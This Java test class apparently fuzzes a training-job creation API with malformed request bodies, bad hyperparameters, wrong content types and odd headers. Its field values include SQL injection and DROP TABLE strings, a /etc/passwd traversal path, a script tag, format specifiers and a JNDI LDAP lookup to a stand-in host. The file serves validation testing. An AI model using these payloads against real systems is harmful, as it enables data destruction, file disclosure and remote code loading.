package io.trainyard.jobs.hostile;

import io.trainyard.support.hostile.Hostile;
import io.trainyard.support.hostile.HostileRequest;
import io.trainyard.support.hostile.Requests;

import java.util.LinkedHashMap;
import java.util.Map;
import java.util.UUID;
import java.util.function.Function;

import static io.trainyard.support.hostile.Hostile.jsonString;

/**
 * Hostile job creations: a body with one field (or hyperparameter) of the wrong type or out of its range,
 * unknown fields, bodies that are no JSON object at all, wrong content types, odd Idempotency-Keys. The
 * dataset is always one that does not exist, so even a body whose every field passes is a 422 naming
 * {@code dataset_id}, and nothing is queued.
 */
final class HostileJobs {
    static final String PATH = "/api/v1/training/jobs";
    /** Invalid values (JSON text) per hyperparameter of mlp_classifier. */
    private static final Map<String, String[]> BAD_HYPERPARAMETERS = Map.of(
            "epochs", new String[] {"0", "-1", "1001", "1e309", "0.5", "9223372036854775808", "\"10\"", "[]"},
            "batch_size", new String[] {"0", "4097", "-2147483649", "1.5", "true"},
            "learning_rate", new String[] {"0", "-1", "1e309", "-1e309", "2", "1e-400", "\"0.1\""},
            // [] is valid: no hidden layer.
            "hidden_layers", new String[] {"[0]", "[-1]", "[1025]", "[1,2,3,4,5,6,7,8,9]", "[1.5]", "[[8]]",
                "\"8,8\"", "8", "[\"8\"]", "[9223372036854775808]"},
            "dropout", new String[] {"-0.1", "0.95", "1e309", "\"x\""},
            "optimizer", new String[] {"\"ADAM\"", "\"rmsprop\"", "1", "\"\"", "\"adam\\u0000\""},
            "seed", new String[] {"-1", "2147483648", "1.5", "\"42\""},
            "max_runtime_seconds", new String[] {"0", "604801", "-60", "1e309"},
            "test_split", new String[] {"-0.1", "0.51", "1e309", "\"0.1\"", "true"});

    private HostileJobs() {
    }

    private static Map<String, String> baseBody(Hostile h) {
        Map<String, String> body = new LinkedHashMap<>();
        body.put("name", jsonString(h.chance(0.5) ? "hostile" : decoration(h)));
        body.put("dataset_id", jsonString(UUID.randomUUID().toString()));
        body.put("model_family", jsonString("mlp_classifier"));
        body.put("hyperparameters", "{\"epochs\": 3}");
        if (h.chance(0.5)) {
            body.put("validation_split", "0.25");
            body.put("tags", "[\"a\", \"b-1\"]");
            body.put("priority", jsonString(h.oneOf("low", "normal", "high", "urgent")));
            body.put("description", jsonString(decoration(h)));
        }
        return body;
    }

    /** Text a valid field may hold: SQL-ish, path-ish, unicode, at most 200 characters and no control characters. */
    private static String decoration(Hostile h) {
        String text = h.oneOf("' OR '1'='1", "'; DROP TABLE training_job; --", "../../etc/passwd",
                "\u65e5\u672c\u8a9e", "\u202Eevil", "e\u0301", "\uD83D\uDE00", "<script>x</script>", "%s%n",
                "${jndi:ldap://x.invalid/a}", "Ｔｒａｉｎ");
        return text;
    }

    static Function<Hostile, HostileRequest> creations() {
        return h -> {
            Map<String, String> body = baseBody(h);
            String field = "dataset_id";
            String kind = "valid fields, unknown dataset";
            switch (h.random().nextInt(14)) {
                case 0 -> {
                    field = "name";
                    body.put(field, h.any(h::jsonNotString, () -> jsonString(h.oneOf("", " ", "\t", "n".repeat(201),
                            "a\u0000b", "x\u001b[31m", "line\nbreak"))));
                }
                case 1 -> {
                    field = "dataset_id";
                    body.put(field, h.any(h::jsonNotString, () -> jsonString(h.notUuid())));
                }
                case 2 -> {
                    field = "model_family";
                    body.put(field, h.any(h::jsonNotString, () -> jsonString(h.string())));
                }
                case 3, 4, 5 -> {
                    String name = h.oneOf(BAD_HYPERPARAMETERS.keySet().stream().sorted().toList());
                    field = "hyperparameters." + name;
                    body.put("hyperparameters", "{" + jsonString(name) + ": " + h.oneOf(BAD_HYPERPARAMETERS.get(name))
                            + "}");
                }
                case 6 -> {
                    field = "hyperparameters";
                    body.put(field, h.oneOf("[]", "1", "\"epochs=3\"", "true", "[{\"epochs\": 3}]"));
                }
                case 7 -> {
                    String unknown = h.string();
                    field = "hyperparameters." + unknown;
                    body.put("hyperparameters", "{" + jsonString(unknown) + ": " + h.jsonNumber() + "}");
                }
                case 8 -> {
                    field = h.chance(0.7) ? "validation_split" : "test_split";
                    body.put(field, field.equals("test_split") ? h.oneOf("-0.1", "0.51", "1e309", "1.5", "\"0.1\"",
                            "true", "[0.1]") : h.any(h::jsonNotNumber, () -> h.oneOf("0", "1", "-0", "1e309", "-1",
                            "1.5", "1e-400", "100")));
                }
                case 9 -> {
                    field = h.oneOf("model_name", "description", "tags", "priority", "experiment_id", "experiment");
                    body.put(field, switch (field) {
                        case "model_name" -> h.any(h::jsonNotString, () -> jsonString(h.oneOf("", "-x", "..",
                                "a b", "m".repeat(129), "a/b", "\u00e9t\u00e9", "a\u0000")));
                        case "description" -> h.any(h::jsonNotString, () -> jsonString("d".repeat(2001)),
                                () -> jsonString("a\u0000b"));
                        case "experiment_id" -> h.any(h::jsonNotString, () -> jsonString(h.notUuid()));
                        case "experiment" -> h.any(h::jsonNotString, () -> jsonString(h.oneOf("", " ",
                                "n".repeat(201))));
                        case "tags" -> h.oneOf("\"a\"", "{}", "[\"UPPER\"]", "[1]", "[\"" + "t".repeat(51) + "\"]",
                                "[" + "\"t\",".repeat(21) + "\"t\"]", "[\"\\u0000\"]", "[null]", "[[]]");
                        default -> h.any(h::jsonNotString, () -> jsonString(h.string()));
                    });
                }
                case 10 -> {
                    field = h.string();
                    body.put(field, h.jsonNumber());
                }
                case 11 -> {
                    return send(body).header("Idempotency-Key", "k".repeat(h.between(256, 4000)));
                }
                case 12 -> {
                    return HostileRequest.of("POST", PATH, null, "not a JSON object")
                            .body("application/json", h.badJsonDocument());
                }
                default -> {
                    return HostileRequest.of("POST", PATH, null, "wrong content type")
                            .body(h.contentType(), render(body));
                }
            }
            HostileRequest request = HostileRequest.of("POST", PATH, field,
                    field.equals("dataset_id") ? kind : "bad " + (field.length() > 40 ? "unknown field" : field));
            request = request.body("application/json", render(body));
            if (field.equals("test_split")) {
                // The top-level field is the hyperparameter of its name, and is reported as that.
                request = request.alsoAt("hyperparameters.test_split");
            }
            if (h.chance(0.2)) {
                request = request.header("Idempotency-Key", Requests.headerValue(h.oneOf("' OR '1'='1", "../x", "%s", "{}", "*"))
                        + UUID.randomUUID());
            }
            return request;
        };
    }

    private static HostileRequest send(Map<String, String> body) {
        return HostileRequest.of("POST", PATH, "Idempotency-Key", "bad Idempotency-Key")
                .body("application/json", render(body));
    }

    private static String render(Map<String, String> body) {
        StringBuilder out = new StringBuilder("{");
        body.forEach((k, v) -> out.append(out.length() > 1 ? ", " : "").append(jsonString(k)).append(": ").append(v));
        return out.append('}').toString();
    }
}
